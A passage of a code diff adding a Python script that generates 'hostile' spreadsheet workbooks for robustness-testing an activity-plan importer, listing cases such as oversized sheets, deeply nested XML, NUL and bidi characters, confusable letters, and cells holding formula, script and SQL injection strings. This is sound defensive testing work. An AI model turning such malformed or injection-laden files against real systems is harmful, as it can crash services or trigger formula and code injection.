+    marks = ["Se hará si hay presupuesto", 0, 1, date(2018, 3, 1), "no", "-", "✓", "x", "NO APLICA", 0.0, "  "]
+    plan = PlanRows(n=40)
+    sheet = plan.plan_sheet()
+    rows = [PLAN_HEADERS + MONTHS] + [
+        [SUBCOMPONENTES[k % 4], f"{k % 4 + 1}.{k // 4 + 1}", plan.text(k), "Meta", OFICINAS[k % 4],
+         *[marks[(k + m) % len(marks)] for m in range(13)]] for k in range(40)]
+    sheet.xml = sheet_xml(rows_xml(rows))
+    return xlsx([sheet])
+
+
+def _no_styles_shaded() -> bytes:
+    # Cells point at styles but the workbook has no style sheet at all.
+    plan = PlanRows(months=lambda k: [])
+    sheet = plan.plan_sheet()
+    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="2"/>', 1)
+    return xlsx([sheet, plan.follow_up_sheet()], styles=None)
+
+
+def _utf16_parts() -> bytes:
+    plan = PlanRows()
+    sheet = plan.plan_sheet()
+    sheet.xml = sheet.xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
+    return xlsx([sheet, plan.follow_up_sheet()])
+
+
+HOSTILE: list[Hostile] = [
+    Hostile("filas_200000", "200.000 filas de actividades en una hoja", "rechazo", _rows_200000),
+    Hostile("columnas_5000", "5.000 columnas en la hoja del plan", "plan", _columns_5000),
+    Hostile("celda_1mb", "una actividad de 1 MB de texto en una celda", "plan", _cell_1mb),
+    Hostile("formulas_sin_valor", "todas las celdas son fórmulas sin valor calculado", "rechazo",
+            _formulas_without_values),
+    Hostile("plan_en_hoja_oculta", "la tabla del plan solo está en una hoja oculta", "rechazo", _hidden_plan),
+    Hostile("seguimiento_muy_oculto", "el seguimiento en una hoja «muy oculta» (veryHidden)", "plan",
+            _very_hidden_follow_up),
+    Hostile("imagenes", "veinte imágenes incrustadas en la hoja del plan", "plan", _images),
+    Hostile("macros_xlsm", "un .xlsm con un proyecto de macros (falso)", "plan", _xlsm_macros, ".xlsm"),
+    Hostile("nul_escapado", "caracteres NUL y de control escritos como _x0000_ en nombres e ID", "plan",
+            _nul_escaped),
+    Hostile("nul_crudo", "bytes NUL y de control dentro del XML (calamine los tolera; se limpian)", "cualquiera",
+            _nul_raw),
+    Hostile("bidi_override", "marcas de derecha a izquierda (U+202E) en dependencias e ID", "plan", _bidi_override),
+    Hostile("confusables_cirilico", "letras cirílicas parecidas a las latinas en dependencias e ID", "plan",
+            _confusables),
+    Hostile("inyecciones", "=HYPERLINK(…), @SUM, +1, -1+1, <script> y SQL en celdas", "plan", _injection_strings),
+    Hostile("fechas_extremas", "fechas de corte en 1900 (incluido el 29/02/1900) y en 9999", "plan", _extreme_dates),
+    Hostile("periodo_fuera_de_calendario", "MES 1 en diciembre de 9999 con 60 meses", "cualquiera", _extreme_period),
+    Hostile("anio_cero", "«VIGENCIA 0000» en el título y «enero 0000» como MES 1", "rechazo", _year_zero),
+    Hostile("vigencia_9999_en_titulo", "«VIGENCIA 9999» en el título, sin hoja de parámetros", "plan",
+            _title_year_9999),
+    Hostile("dependencias_desconocidas", "todas las dependencias son nombres nuevos", "plan", _unknown_offices),
+    Hostile("dependencias_10000", "10.000 actividades con 10.000 dependencias distintas", "plan", _offices_10000),
+    Hostile("nombres_de_hoja_largos", "nombres de hoja de 255 caracteres", "plan", _long_sheet_names),
+    Hostile("hojas_duplicadas_mayusculas", "hojas «Plan» y «PLAN» con ID repetidos", "rechazo",
+            _case_duplicate_sheets),
+    Hostile("dimension_enorme", "hojas que declaran la dimensión A1:XFD1048576", "plan", _huge_dimension),
+    Hostile("millon_de_referencias", "1.000.000 de celdas que apuntan a un solo texto compartido", "cualquiera",
+            _shared_string_references),
+    Hostile("xml_profundo", "50.000 niveles de XML anidado en una celda", "cualquiera", _deep_xml),
+    Hostile("hojas_1000", "1.000 hojas", "plan", _sheets_1000),
+    Hostile("combinada_toda_la_hoja", "un rango combinado que cubre toda la hoja", "plan", _merged_whole_sheet),
+    Hostile("sombreado_combinado_hasta_el_final", "un mes sombreado combinado hasta la última celda de la hoja",
+            "plan", _merged_shaded_schedule),
+    Hostile("estilo_inexistente", "celdas con un estilo que no existe junto a meses sombreados", "plan",
+            _style_out_of_range),
+    Hostile("estilos_danados", "styles.xml mal formado con meses marcados solo con sombreado", "plan",
+            _broken_styles),
+    Hostile("referencias_invalidas", "filas 0 y 2.000.000 y columnas más allá de XFD", "cualquiera",
+            _bad_references),
+    Hostile("texto_compartido_inexistente", "celdas que apuntan a textos compartidos que no existen", "cualquiera",
+            _shared_string_index_out_of_range),
+    Hostile("celdas_de_error", "#N/A, #REF!, #DIV/0! en fechas y avances", "rechazo", _error_cells),
+    Hostile("numeros_enormes", "avances de 1e308 e ID numéricos gigantes", "rechazo", _huge_numbers),
+    Hostile("booleanos", "VERDADERO/FALSO en ID, fechas y avances", "rechazo", _booleans_everywhere),
+    Hostile("fechas_de_texto_imposibles", "fechas como 31/02/2018 y 00/00/0000", "rechazo", _odd_date_texts),
+    Hostile("encabezados_20000", "el encabezado repetido 20.000 veces", "plan", _header_storm),
+    Hostile("id_repetidos_10000", "10.000 actividades con el mismo ID", "rechazo", _duplicate_ids_massive),
+    Hostile("seguimiento_sin_coincidencias", "20.000 reportes que nombran actividades inexistentes", "rechazo",
+            _unmatched_follow_up),
+    Hostile("relaciones_fuera_del_paquete", "relaciones que apuntan fuera del libro y a partes inexistentes",
+            "cualquiera", _rels_outside),
+    Hostile("solo_hoja_de_grafico", "un libro con solo una hoja de gráfico", "rechazo", _chart_sheet_only),
+    Hostile("marcas_raras", "celdas de mes con textos, números, fechas y espacios", "plan", _marks_everywhere),
+    Hostile("sin_hoja_de_estilos", "celdas con estilo en un libro sin styles.xml", "plan", _no_styles_shaded),
+    Hostile("xml_utf16", "la hoja del plan escrita en UTF-16", "cualquiera", _utf16_parts),
+]
+
+BY_NAME = {item.name: item for item in HOSTILE}
+
+
+def write_all(folder: str | Path) -> list[Path]:
+    """Write every hostile workbook into ``folder``; returns the paths."""
+    folder = Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    paths = []
+    for item in HOSTILE:
+        path = folder / f"{item.name}{item.suffix}"
+        path.write_bytes(item.build())
+        paths.append(path)
+    return paths
+
+
+def main(argv: list[str] | None = None) -> int:
+    args = sys.argv[1:] if argv is None else argv
+    if len(args) != 1:
+        print("uso: python -m scripts.hostile_workbooks CARPETA", file=sys.stderr)
+        return 2
+    paths = write_all(args[0])
+    print(f"Escritos {len(paths)} libros hostiles en {args[0]}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
